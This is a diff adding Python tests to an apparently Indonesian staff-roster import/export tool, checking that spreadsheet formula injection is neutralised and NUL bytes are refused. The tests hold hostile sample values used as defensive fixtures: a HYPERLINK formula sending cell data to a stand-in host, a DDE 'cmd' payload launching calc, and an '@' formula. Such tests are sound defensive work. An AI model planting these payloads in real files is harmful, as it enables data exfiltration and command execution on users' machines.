@@ -143,3 +143,36 @@ def test_preview_reports_and_writes_nothing(db, tmp_path, operator):
     preview = import_roster(db, operator, write(tmp_path / "bad.csv", bad), preview=True)
     assert preview.created == 4 and preview.units_created == 2 and [p.row for p in preview.rejected] == [6]
     assert count(db, Employee) == 0 and count(db, Unit) == 0 and count(db, AuditEntry) == 0
+
+
+def test_formulas_in_a_roster_stay_text_in_and_out(db, tmp_path, operator):
+    import zipfile
+
+    evil = {KADIS: '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', KABID: "=cmd|' /C calc'!A0",
+            GURU: "@SUM(1+1)"}
+    text = ROSTER
+    for nip, name in evil.items():
+        original = next(line.split(";")[1] for line in ROSTER.splitlines() if line.startswith(nip))
+        text = text.replace(f"{nip};{original};", f"{nip};{name};")
+    import_roster(db, operator, write(tmp_path / "r.csv", text))
+    with db.read() as s:
+        assert {nip: s.scalar(select(Employee.nama).where(Employee.nip == nip)) for nip in evil} == evil
+    export_roster(db, tmp_path / "keluar.csv")
+    cells = [row[1] for row in csv.reader((tmp_path / "keluar.csv").open(encoding="utf-8-sig"), delimiter=";")][1:]
+    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    assert {f"'{name}" for name in evil.values()} <= set(cells)
+    export_roster(db, tmp_path / "keluar.xlsx")
+    sheet_xml = zipfile.ZipFile(tmp_path / "keluar.xlsx").read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml  # strings, never formulas
+    again = import_roster(db, operator, tmp_path / "keluar.csv")  # the apostrophe comes off again
+    assert again.unchanged == 4
+    with db.read() as s:
+        assert {nip: s.scalar(select(Employee.nama).where(Employee.nip == nip)) for nip in evil} == evil
+
+
+def test_nul_bytes_are_refused_by_row(db, tmp_path, operator):
+    text = ROSTER.replace("Budi Santoso", "Budi\x00Santoso")
+    with pytest.raises(UserError) as refused:
+        import_roster(db, operator, write(tmp_path / "r.csv", text))
+    assert "karakter NUL" in str(refused.value) and "baris 4" in str(refused.value)
+    assert count(db, Employee) == 0
